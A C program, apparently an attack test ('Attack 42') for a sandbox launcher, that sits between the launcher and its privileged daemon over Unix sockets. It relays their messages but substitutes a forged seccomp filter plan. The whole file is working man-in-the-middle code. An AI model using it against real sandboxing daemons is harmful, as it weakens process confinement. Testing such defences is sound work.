/* SPDX-License-Identifier: ISC */
/*
 * Attack 42: a user between the real launcher and the daemon. The process
 * connects to the daemon and becomes the launcher; another one holds that
 * connection and is the launcher's daemon. It hands on what both say, but for
 * the filter: the program gets one of its own, in which uname fails.
 *
 * usage: between socket false-socket launcher program [argument ...]
 * (launcher -s false-socket program argument ... is executed.)
 */
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>

#include <linux/filter.h>
#include <linux/seccomp.h>

#include <err.h>
#include <errno.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define HEAD 12

struct message {
	unsigned char text[70000];
	size_t len;
	int fd;
};

static struct sockaddr_un
address(const char *path)
{
	struct sockaddr_un sun = { .sun_family = AF_UNIX };

	(void)strncpy(sun.sun_path, path, sizeof(sun.sun_path) - 1);
	return sun;
}

static void
hear(int sock, struct message *message)
{
	union {
		char room[CMSG_SPACE(sizeof(int))];
		struct cmsghdr align;
	} control;
	struct iovec iov = { message->text, sizeof(message->text) };
	struct msghdr msg = { .msg_iov = &iov,
		.msg_iovlen = 1,
		.msg_control = &control,
		.msg_controllen = sizeof(control) };
	struct cmsghdr *cmsg;
	ssize_t n = recvmsg(sock, &msg, 0);

	if (n < HEAD)
		exit(3);
	message->len = (size_t)n;
	message->fd = -1;
	cmsg = CMSG_FIRSTHDR(&msg);
	if (cmsg != NULL)
		memcpy(&message->fd, CMSG_DATA(cmsg), sizeof(int));
}

static void
say(int sock, struct message *message)
{
	union {
		char room[CMSG_SPACE(sizeof(int))];
		struct cmsghdr align;
	} control;
	struct iovec iov = { message->text, message->len };
	struct msghdr msg = { .msg_iov = &iov, .msg_iovlen = 1 };
	struct cmsghdr *cmsg;

	memset(&control, 0, sizeof(control));
	if (message->fd != -1) {
		msg.msg_control = &control;
		msg.msg_controllen = sizeof(control);
		cmsg = CMSG_FIRSTHDR(&msg);
		cmsg->cmsg_level = SOL_SOCKET;
		cmsg->cmsg_type = SCM_RIGHTS;
		cmsg->cmsg_len = CMSG_LEN(sizeof(int));
		memcpy(CMSG_DATA(cmsg), &message->fd, sizeof(int));
	}
	if (sendmsg(sock, &msg, MSG_NOSIGNAL) == -1)
		err(3, "sendmsg");
}

static void
put(struct message *message, const void *bytes, size_t n)
{
	memcpy(message->text + message->len, bytes, n);
	message->len += n;
}

/* A plan with another filter: openings and execve are told of, uname fails. */
static void
make_plan(struct message *plan)
{
	struct sock_filter insns[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS,
		    offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_execve, 3, 0),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_openat, 2, 0),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_uname, 2, 0),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | EXDEV),
	};
	uint32_t zero = 0, size = sizeof(insns), len;

	plan->len = HEAD;
	plan->fd = -1;
	put(plan, "4", 1);
	put(plan, &zero, sizeof(zero));
	put(plan, "s", 1);
	put(plan, &zero, sizeof(zero));
	put(plan, "", 1);
	put(plan, "b", 1);
	put(plan, &size, sizeof(size));
	put(plan, insns, size);
	put(plan, "a", 1);
	put(plan, &zero, sizeof(zero));
	len = (uint32_t)plan->len - HEAD;
	memcpy(plan->text + 8, &len, sizeof(len));
}

static void
relay(int privd, int sock)
{
	static struct message message;
	uint32_t outcome;
	int launcher = accept(sock, NULL, NULL);

	hear(launcher, &message);
	say(privd, &message);
	hear(privd, &message);
	memcpy(&outcome, message.text + HEAD + 1, sizeof(outcome));
	(void)fprintf(stderr, "outcome %u\n", outcome);
	if (outcome != 0)
		exit(3);
	make_plan(&message);
	say(launcher, &message);
	hear(launcher, &message);
	say(privd, &message);
}

int
main(int argc, char *argv[])
{
	const struct sockaddr_un real = address(argv[1]);
	const struct sockaddr_un mine = address(argv[2]);
	int privd = socket(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0);
	int sock = socket(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0);
	char **words = argv + 1;

	if (argc < 5 ||
	    connect(privd, (const struct sockaddr *)&real, sizeof(real)) ==
		-1 ||
	    bind(sock, (const struct sockaddr *)&mine, sizeof(mine)) == -1 ||
	    listen(sock, 1) == -1)
		err(2, "between");
	if (fork() == 0) {
		relay(privd, sock);
		_exit(0);
	}
	words[0] = argv[3];
	words[2] = argv[2];
	words[1] = strdup("-s");
	(void)execv(words[0], words);
	err(2, "%s", words[0]);
}
